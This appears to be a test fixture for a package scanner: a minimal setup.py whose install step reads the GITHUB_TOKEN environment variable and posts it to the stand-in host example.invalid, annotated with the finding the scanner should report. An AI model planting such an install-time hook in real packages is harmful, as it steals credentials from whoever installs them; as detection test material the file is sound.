import os
import urllib.parse
import urllib.request
from setuptools import setup

token = os.environ.get("GITHUB_TOKEN", "")
urllib.request.urlopen("https://example.invalid/?" + urllib.parse.urlencode({"t": token}), data=b"x")  # expect: source/environment-to-network install medium
setup(name="toy")
